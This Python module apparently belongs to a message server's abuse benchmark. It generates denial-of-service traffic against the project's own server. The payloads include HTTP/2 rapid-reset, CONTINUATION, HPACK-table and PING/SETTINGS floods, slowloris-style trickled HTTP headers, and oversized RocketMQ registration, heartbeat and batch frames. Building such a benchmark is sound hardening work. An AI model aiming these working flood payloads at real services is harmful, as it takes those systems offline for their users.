"""Bytes that cost a server more than their sender, for `benchmarks.abuse`.

Each attack is what one connection sends: an iterator of chunks, made anew whenever the connection
is closed. What the server answers is read and thrown away, or not read at all.
"""

import contextlib
import itertools
import select
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from typing import Final, NamedTuple

import orjson

from sluicemq.record.codec import encode_batch
from sluicemq.wire import http2 as h
from sluicemq.wire.codes import RequestCode as Code
from sluicemq.wire.frames import Command, encode
from sluicemq.wire.hpack import encode_headers

STREAMS: Final = 1000
PATH: Final = "/apache.rocketmq.v2.MessagingService/"
_INTEGER: Final = struct.Struct(">i")


class Attack(NamedTuple):
    """`port`: which of the server's. `chunks` are what a connection sends; with `reads` False it
    takes no answers. `holds`: connections that each abuser keeps open and silent afterwards."""

    port: str
    chunks: Callable[[], Iterator[bytes]]
    reads: bool = True
    holds: int = 1


# ------------------------------------------------------------------------------ registrations


def _sized(data: bytes) -> bytes:
    return _INTEGER.pack(len(data)) + data


def registration(servers: bytes = b"[]", topics: int = 0, attributes: bytes = b"{}") -> bytes:
    """A frame of REGISTER_BROKER (103), compressed."""
    inside = bytearray(_sized(b"") + _INTEGER.pack(topics))
    for number in range(topics):
        inside += _sized(b"abuse-topic-%d 4 4 6 SINGLE_TAG %b" % (number, attributes))
    inside += _sized(servers) + _INTEGER.pack(0)
    body = zlib.compress(inside, 6)
    fields = {
        "brokerName": "abuser", "brokerAddr": "127.0.0.1:1", "clusterName": "Abusers",
        "haServerAddr": "127.0.0.1:2", "brokerId": "0", "compressed": "true", "bodyCrc32": "0",
    }  # fmt: skip
    return encode(Command(Code.REGISTER_BROKER, fields, body, 1))


def _again(make: Callable[[], bytes]) -> Callable[[], Iterator[bytes]]:
    """The same frame again and again, made once."""
    made: list[bytes] = []

    def chunks() -> Iterator[bytes]:
        if not made:
            made.append(make())
        return itertools.repeat(made[0])

    return chunks


def _reference_keys(count: int) -> bytes:
    keys = [b'{"$ref":"$.%d"}:1' % at for at in range(count)]
    return b"{" + b",".join([*keys, *[b"%d:0" % at for at in range(count)]]) + b"}"


# ----------------------------------------------------------------------------------- requests


def _request(code: int, body: bytes, fields: dict[str, str] | None = None) -> bytes:
    return encode(Command(code, fields or {}, body, 1))


def heartbeats() -> Iterator[bytes]:
    """Other groups and client ids over one connection: what each says becomes ten times as much."""
    for number in itertools.count():
        topics = [
            {"topic": f"{number}t{k}", "subString": "*", "expressionType": "TAG", "subVersion": 1,
             "tagsSet": [], "codeSet": list(range(k, k + 20))}
            for k in range(4000)
        ]  # fmt: skip
        group = {"groupName": f"hm{number}", "subscriptionDataSet": topics}
        said = {"clientID": f"hm{number}", "producerDataSet": [], "consumerDataSet": [group]}
        yield _request(Code.HEART_BEAT, orjson.dumps(said))


def many_groups() -> Iterator[bytes]:
    """Connections that join 5,000 groups and go."""
    groups = [{"groupName": f"mg{n}", "subscriptionDataSet": [{"topic": "T", "subString": "*"}]}
              for n in range(5000)]  # fmt: skip
    said = {"clientID": "mg", "producerDataSet": [], "consumerDataSet": groups}
    yield _request(Code.HEART_BEAT, orjson.dumps(said))
    time.sleep(0.5)


def _locks() -> bytes:
    queues = [{"topic": "T", "brokerName": "broker-a", "queueId": n} for n in range(20_000)]
    body = {"consumerGroup": "locker", "clientId": "c", "mqSet": queues}
    return _request(Code.LOCK_BATCH_MQ, orjson.dumps(body))


def _group_list() -> bytes:
    groups = [{"groupName": f"list{n}"} for n in range(5000)]
    body = orjson.dumps({"groupConfigList": groups})
    return _request(Code.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP_LIST, body)


def _batch(fields: dict[str, str], last: bytes = b"") -> bytes:
    """`last`: the encoded properties of the last message."""
    message = struct.pack(">iiiiih", 22, 0, 0, 0, 0, 0)
    body = message * 15_999 + encode_batch([(0, b"", last)])
    return _request(Code.SEND_BATCH_MESSAGE, body, fields)


# -------------------------------------------------------------------------------------- HTTP/2


def head(method: str = "QueryRoute", *fields: tuple[str, str]) -> bytes:
    """A header block of a gRPC call."""
    return encode_headers([
        (":method", "POST"), (":scheme", "http"), (":path", PATH + method), (":authority", "x"),
        ("te", "trailers"), ("content-type", "application/grpc"), ("x-mq-client-id", "c"), *fields,
    ])  # fmt: skip


BEGIN: Final = h.PREFACE + h.encode_frame(h.SETTINGS, 0, 0)
HEAD: Final = head()
EMPTY: Final = b"\0" + struct.pack(">I", 0)


def _open(count: int = STREAMS) -> bytes:
    return b"".join(
        h.encode_frame(h.HEADERS, h.END_HEADERS, 2 * at + 1, HEAD) for at in range(count)
    )


def settings_of_many_streams() -> Iterator[bytes]:
    """SETTINGS that change the windows of 1,000 open streams."""
    yield BEGIN + _open()
    both = [
        h.encode_settings({h.Setting.INITIAL_WINDOW_SIZE: it}) for it in (0, h.WINDOW_BYTES_MAX)
    ]
    yield from itertools.repeat(b"".join(both) * 50)


def windows_of_many_answers() -> Iterator[bytes]:
    """WINDOW_UPDATE of the connection while 1,000 answers wait for windows of their streams."""
    closed = h.encode_settings({h.Setting.INITIAL_WINDOW_SIZE: 0})
    calls = b"".join(
        h.encode_frame(h.HEADERS, h.END_HEADERS, 2 * at + 1, HEAD)
        + h.encode_frame(h.DATA, h.END_STREAM, 2 * at + 1, EMPTY)
        for at in range(STREAMS)
    )
    yield BEGIN + closed + calls
    yield from itertools.repeat(h.encode_window_update(0, 1) * 100)


def resets() -> Iterator[bytes]:
    """Calls that are given up at once."""
    yield BEGIN
    for first in itertools.count(1, 200):
        yield b"".join(
            h.encode_frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, at, HEAD)
            + h.encode_rst_stream(at, h.ErrorCode.CANCEL)
            for at in range(first, first + 200, 2)
        )


def continuations() -> Iterator[bytes]:
    """A header block without end."""
    yield BEGIN + h.encode_frame(h.HEADERS, 0, 1, HEAD[:10])
    yield from itertools.repeat(h.encode_frame(h.CONTINUATION, 0, 1, b"a" * 100) * 50)


def header_tables() -> Iterator[bytes]:
    """One large entry of the table, named again and again in each block."""
    value = b"y" * 3900
    entry = b"\x40\x01x\x7f" + bytes([3900 - 127 & 127 | 128, 3900 - 127 >> 7]) + value
    yield BEGIN + h.encode_frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, 1, HEAD + entry)
    for stream in itertools.count(3, 2):
        yield h.encode_frame(
            h.HEADERS, h.END_HEADERS | h.END_STREAM, stream, HEAD + b"\xbe" * 15_000
        )


def table_sizes() -> Iterator[bytes]:
    """Header blocks that do nothing but resize the table."""
    yield BEGIN
    for stream in itertools.count(1, 2):
        yield h.encode_frame(h.HEADERS, h.END_HEADERS, stream, b"\x20" * 16_000)


def _flood(frame: bytes, before: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def chunks() -> Iterator[bytes]:
        yield BEGIN + before
        yield from itertools.repeat(frame * 500)

    return chunks


def small_messages() -> Iterator[bytes]:
    """A stream of messages of five bytes, three thousand in each frame."""
    yield BEGIN + h.encode_frame(h.HEADERS, h.END_HEADERS, 1, head("Telemetry"))
    for _ in range(40):
        yield h.encode_frame(h.DATA, 0, 1, EMPTY * 3000)


def small_fields() -> Iterator[bytes]:
    """A request of many thousands of empty messages."""
    yield BEGIN
    body = b"\x0a\x00" * 200_000
    message = b"\0" + struct.pack(">I", len(body)) + body
    for stream in itertools.count(1, 2):
        parts = [message[at : at + 16_000] for at in range(0, len(message), 16_000)]
        yield h.encode_frame(h.HEADERS, h.END_HEADERS, stream, head("SendMessage"))
        for part in parts[:-1]:
            yield h.encode_frame(h.DATA, 0, stream, part)
        yield h.encode_frame(h.DATA, h.END_STREAM, stream, parts[-1])


def open_streams() -> Iterator[bytes]:
    """1,000 calls that are begun, with deadlines."""
    block = head("QueryRoute", ("grpc-timeout", "60S"))
    yield BEGIN + b"".join(
        h.encode_frame(h.HEADERS, h.END_HEADERS, 2 * at + 1, block) for at in range(STREAMS)
    )
    time.sleep(1.0)


# ---------------------------------------------------------------------------------------- HTTP


def scrapes() -> Iterator[bytes]:
    """A scrape of each connection."""
    yield b"GET /metrics HTTP/1.0\r\n\r\n"
    time.sleep(0.05)


def slow_heads() -> Iterator[bytes]:
    """A request's head, a line at a time."""
    yield b"GET /metrics HTTP/1.0\r\n"
    for number in range(100):
        time.sleep(0.2)
        yield b"x-%d: y\r\n" % number


def large_heads() -> Iterator[bytes]:
    """Headers without end."""
    yield b"GET /metrics HTTP/1.0\r\n"
    yield from itertools.repeat(b"x: y\r\n" * 500)


def attacks(batch_fields: dict[str, str]) -> dict[str, Attack]:
    """All attacks by name."""
    frames: dict[str, tuple[str, Callable[[], bytes]]] = {
        "registration: 2.4 M odd values": (
            "nameserver", lambda: registration(b"{1:[" + b"1," * 2_400_000 + b"1]}")
        ),
        "registration: 5 M texts": (
            "nameserver", lambda: registration(b"[" + b'"",' * 5_000_000 + b'""]')
        ),
        "registration: 20,000 keys by reference": (
            "nameserver", lambda: registration(_reference_keys(20_000))
        ),
        "registration: 100,000 topics": (
            "nameserver", lambda: registration(topics=100_000)
        ),
        "registration: 600,000 topics": (
            "nameserver", lambda: registration(topics=600_000)
        ),
        "registration: topics with references": (
            "nameserver", lambda: registration(b"[]", 200_000, b'{"a":{"$ref":"$"}}')
        ),
        "heartbeat: 65 KB of keys by reference": (
            "broker", lambda: _request(Code.HEART_BEAT, _reference_keys(2300))
        ),
        "lock: 20,000 queues": ("broker", _locks),
        "groups: 5,000 in one request": ("broker", _group_list),
        "settings: 5,000 unknown keys": (
            "broker",
            lambda: _request(
                Code.UPDATE_BROKER_CONFIG, "\n".join(f"k{n}=v" for n in range(5000)).encode()
            ),
        ),
        "batch: 16,000 empty messages": ("broker", lambda: _batch(batch_fields)),
        "batch: 16,000, one is odd": (
            "broker", lambda: _batch(batch_fields, b"DELAY\x010\x02")
        ),
        "header: 1 MiB of lists": (
            "broker",
            lambda: struct.pack(">II", 4 + 1_000_013, 1_000_013)
            + b'{"code":30,"x"' + b":[" + b"[]," * 333_331 + b"[]]}",
        ),
    }  # fmt: skip
    grpc: dict[str, tuple[Callable[[], Iterator[bytes]], bool]] = {
        "HTTP/2: SETTINGS of 1,000 streams": (settings_of_many_streams, True),
        "HTTP/2: WINDOW_UPDATE of 1,000 answers": (windows_of_many_answers, True),
        "HTTP/2: the same, nothing is read": (windows_of_many_answers, False),
        "HTTP/2: PING": (_flood(h.encode_frame(h.PING, 0, 0, b"12345678")), True),
        "HTTP/2: SETTINGS": (_flood(h.encode_settings({h.Setting.INITIAL_WINDOW_SIZE: 9})), True),
        "HTTP/2: PRIORITY": (_flood(h.encode_frame(h.PRIORITY, 0, 1, b"\0\0\0\0\1")), True),
        "HTTP/2: empty DATA": (
            _flood(h.encode_frame(h.DATA, 0, 1), h.encode_frame(1, 4, 1, HEAD)),
            True,
        ),
        "HTTP/2: unknown frames": (_flood(h.encode_frame(0xEE, 0, 0, b"x" * 100)), True),
        "HTTP/2: resets": (resets, True),
        "HTTP/2: CONTINUATION": (continuations, True),
        "HTTP/2: header tables": (header_tables, True),
        "HTTP/2: table sizes": (table_sizes, True),
        "gRPC: 3,000 messages in each frame": (small_messages, True),
        "gRPC: 200,000 fields in a request": (small_fields, True),
    }
    return {
        **{name: Attack(port, _again(make)) for name, (port, make) in frames.items()},
        "heartbeats: other groups in each": Attack("broker", heartbeats),
        "heartbeats: 5,000 groups, and gone": Attack("broker", many_groups),
        **{name: Attack("proxy", chunks, reads) for name, (chunks, reads) in grpc.items()},
        "gRPC: 1,000 calls open, 20 connections": Attack("proxy", open_streams, holds=20),
        "metrics: scrapes": Attack("metrics", scrapes),
        "metrics: slow heads, 20 connections": Attack("metrics", slow_heads, holds=20),
        "metrics: heads without end": Attack("metrics", large_heads),
    }


def attack(
    address: str, what: Attack, over: threading.Event, sent: list[int], closed: list[int]
) -> None:
    """Send until it is over, with a new connection whenever one is closed. `sent` and `closed`
    count bytes and connections."""
    host, _, port = address.rpartition(":")
    held: list[socket.socket] = []
    while not over.is_set():
        try:
            channel = socket.create_connection((host, int(port)), 10)
        except OSError:
            time.sleep(0.1)
            continue
        channel.setblocking(False)
        with contextlib.suppress(OSError):
            for chunk in what.chunks():
                if not _send(channel, chunk, what, over, sent):
                    break
        closed[0] += 1
        held.append(channel)
        while len(held) >= what.holds:
            held.pop(0).close()
    for channel in held:
        channel.close()


def _send(
    channel: socket.socket, chunk: bytes, what: Attack, over: threading.Event, sent: list[int]
) -> bool:
    """Send a chunk, and read what comes meanwhile. Return whether the connection goes on."""
    left = memoryview(chunk)
    while left:
        readable, writable, _ = select.select([channel] if what.reads else [], [channel], [], 0.1)
        if over.is_set() or (readable and not channel.recv(1 << 18)):
            return False
        if writable:
            count = channel.send(left[: 1 << 18])
            sent[0] += count
            left = left[count:]
    return True
